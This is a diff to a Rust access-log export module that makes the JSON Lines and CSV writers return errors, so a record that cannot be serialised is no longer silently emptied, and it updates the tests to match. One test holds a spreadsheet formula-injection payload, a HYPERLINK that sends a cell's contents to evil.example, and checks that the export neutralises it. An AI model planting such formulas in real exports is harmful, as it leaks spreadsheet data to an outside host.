@@ -49,11 +49,12 @@ pub const CSV_COLUMNS: [&str; 22] = [
     "hash",
 ];
 
-/// One JSON Lines line, with its `\n`.
-pub fn jsonl_line(e: &AccessLogEntry) -> String {
-    let mut line = serde_json::to_string(e).unwrap_or_default();
+/// One JSON Lines line, with its `\n`. A record that cannot be written is an error that
+/// fails the export: an export never leaves a record out or writes an empty line for it.
+pub fn jsonl_line(e: &AccessLogEntry) -> Result<String, serde_json::Error> {
+    let mut line = serde_json::to_string(e)?;
     line.push('\n');
-    line
+    Ok(line)
 }
 
 /// The CSV header line.
@@ -90,8 +91,10 @@ fn quoted(out: &mut String, s: &str) {
     out.push('"');
 }
 
-/// One CSV line, with its `\n`.
-pub fn csv_line(e: &AccessLogEntry) -> String {
+/// One CSV line, with its `\n`; an error like [`jsonl_line`]'s.
+pub fn csv_line(e: &AccessLogEntry) -> Result<String, serde_json::Error> {
+    let roles = serde_json::to_string(&e.roles)?;
+    let object_ids = e.object_ids.as_ref().map(serde_json::to_string).transpose()?;
     let mut out = String::with_capacity(512);
     let opt = |out: &mut String, v: Option<String>| {
         if let Some(v) = v {
@@ -107,7 +110,7 @@ pub fn csv_line(e: &AccessLogEntry) -> String {
         &|o| opt(o, e.actor_name.clone()),
         &|o| opt(o, e.organisation_id.map(|u| u.to_string())),
         &|o| opt(o, e.membership_id.map(|u| u.to_string())),
-        &|o| quoted(o, &serde_json::to_string(&e.roles).unwrap_or_default()),
+        &|o| quoted(o, &roles),
         &|o| quoted(o, &e.action),
         &|o| opt(o, e.object_type.clone()),
         &|o| opt(o, e.object_id.clone()),
@@ -116,7 +119,7 @@ pub fn csv_line(e: &AccessLogEntry) -> String {
                 o.push_str(&r.to_string())
             }
         },
-        &|o| opt(o, e.object_ids.as_ref().map(|ids| serde_json::to_string(ids).unwrap_or_default())),
+        &|o| opt(o, object_ids.clone()),
         &|o| opt(o, e.tier.clone()),
         &|o| opt(o, e.tlp.clone()),
         &|o| quoted(o, &e.outcome),
@@ -133,7 +136,7 @@ pub fn csv_line(e: &AccessLogEntry) -> String {
         f(&mut out);
     }
     out.push('\n');
-    out
+    Ok(out)
 }
 
 /// Reading an export failed at `line`.
@@ -1125,8 +1128,8 @@ mod tests {
         other.object_revision = None;
         other.object_ids = None;
         for text in [
-            format!("{}{}", jsonl_line(&e), jsonl_line(&other)),
-            format!("{}{}{}", csv_header(), csv_line(&e), csv_line(&other)),
+            format!("{}{}", jsonl_line(&e).unwrap(), jsonl_line(&other).unwrap()),
+            format!("{}{}{}", csv_header(), csv_line(&e).unwrap(), csv_line(&other).unwrap()),
         ] {
             let mut r = ExportReader::new(text.as_bytes()).unwrap();
             assert_eq!(r.next_entry().unwrap(), Some(e.clone()));
@@ -1167,11 +1170,16 @@ mod tests {
         other.prev_hash = "AB".repeat(32);
         other.hash = "0f".repeat(32);
         for text in [
-            format!("{}{}", jsonl_line(&e), jsonl_line(&other)),
-            format!("{}\n  \n{}", jsonl_line(&e), jsonl_line(&other).trim_end()),
-            format!("{}{}{}", csv_header(), csv_line(&e), csv_line(&other)),
-            format!("{}{}{}", csv_header(), csv_line(&e), csv_line(&other).trim_end()),
-            format!("{}{}\r\n{}\r\n", csv_header(), csv_line(&e).trim_end(), csv_line(&other).trim_end()),
+            format!("{}{}", jsonl_line(&e).unwrap(), jsonl_line(&other).unwrap()),
+            format!("{}\n  \n{}", jsonl_line(&e).unwrap(), jsonl_line(&other).unwrap().trim_end()),
+            format!("{}{}{}", csv_header(), csv_line(&e).unwrap(), csv_line(&other).unwrap()),
+            format!("{}{}{}", csv_header(), csv_line(&e).unwrap(), csv_line(&other).unwrap().trim_end()),
+            format!(
+                "{}{}\r\n{}\r\n",
+                csv_header(),
+                csv_line(&e).unwrap().trim_end(),
+                csv_line(&other).unwrap().trim_end()
+            ),
         ] {
             let fast = fast_records(&text).unwrap();
             assert_eq!(fast, slow_records(&text).unwrap(), "{text}");
@@ -1184,7 +1192,7 @@ mod tests {
         let mut e = sample();
         // No `":` inside a value: the white space below is added around every `":`.
         e.client_addr = Some("2001:db8::1".into());
-        let value: serde_json::Value = serde_json::from_str(&jsonl_line(&e)).unwrap();
+        let value: serde_json::Value = serde_json::from_str(&jsonl_line(&e).unwrap()).unwrap();
         // Keys sorted (not in struct order), white space around every token, and escapes
         // a writer may choose: \u00e4 for ä, \/ for /, a surrogate pair.
         let mut line = serde_json::to_string(&value).unwrap();
@@ -1205,7 +1213,7 @@ mod tests {
 
     #[test]
     fn what_the_serde_reader_refuses_the_fast_reader_refuses() {
-        let line = jsonl_line(&sample());
+        let line = jsonl_line(&sample()).unwrap();
         let line = line.trim_end();
         let bad_lines = [
             line.replace("\"seq\":7,", ""),
@@ -1234,7 +1242,7 @@ mod tests {
             assert!(slow_records(&bad).is_err(), "serde took {bad}");
             assert!(fast_records(&bad).is_err(), "fast took {bad}");
         }
-        let csv = format!("{}{}", csv_header(), csv_line(&sample()));
+        let csv = format!("{}{}", csv_header(), csv_line(&sample()).unwrap());
         let bad_csv = [
             csv.replacen("\n7,", "\n\"7\",", 1),
             csv.replacen(",200,", ",\"200\",", 1),
@@ -1291,8 +1299,8 @@ mod tests {
         let mut csv = csv_header();
         for i in 0..5000 {
             let e = if i % 1000 == 1 { long.clone() } else { sample() };
-            text.push_str(&jsonl_line(&e));
-            csv.push_str(&csv_line(&e));
+            text.push_str(&jsonl_line(&e).unwrap());
+            csv.push_str(&csv_line(&e).unwrap());
         }
         let fast = fast_records(&text).unwrap();
         assert_eq!(fast.len(), 5000);
@@ -1309,7 +1317,7 @@ mod tests {
         e.reason = Some("''@x".into());
         e.tier = Some("'plain".into());
         e.client_addr = Some("\t-1".into());
-        let line = csv_line(&e);
+        let line = csv_line(&e).unwrap();
         assert!(line.contains(r#","'=HYPERLINK(""https://evil.example/?""&A1,""open"")","#), "{line}");
         assert!(line.contains(r#","'+1","#), "{line}");
         assert!(line.contains(r#","''=already","#), "{line}");
@@ -1346,11 +1354,11 @@ mod tests {
                 e.request_id = t.next().unwrap_or_default();
                 e.roles = vec![t.next().unwrap_or_default()];
                 e.client_addr = t.next();
-                let text = csv_header() + &csv_line(&e);
+                let text = csv_header() + &csv_line(&e).unwrap();
                 let expected = vec![Record::from_entry(&e)];
                 prop_assert_eq!(&fast_records(&text).unwrap(), &expected);
                 prop_assert_eq!(&slow_records(&text).unwrap(), &expected);
-                let line = csv_line(&e);
+                let line = csv_line(&e).unwrap();
                 let line = line.trim_end_matches('\n');
                 let mut fields = Vec::new();
                 let mut scratch = String::new();
@@ -1368,8 +1376,8 @@ mod tests {
             fn the_fast_reader_equals_the_serde_reader(
                 es in proptest::collection::vec(crate::chain::tests::properties::entries(), 1..4)
             ) {
-                let jsonl: String = es.iter().map(jsonl_line).collect();
-                let csv: String = csv_header() + &es.iter().map(csv_line).collect::<String>();
+                let jsonl: String = es.iter().map(|e| jsonl_line(e).unwrap()).collect();
+                let csv: String = csv_header() + &es.iter().map(|e| csv_line(e).unwrap()).collect::<String>();
                 let expected: Vec<Record> = es.iter().map(Record::from_entry).collect();
                 for text in [jsonl, csv] {
                     prop_assert_eq!(&fast_records(&text).unwrap(), &expected);
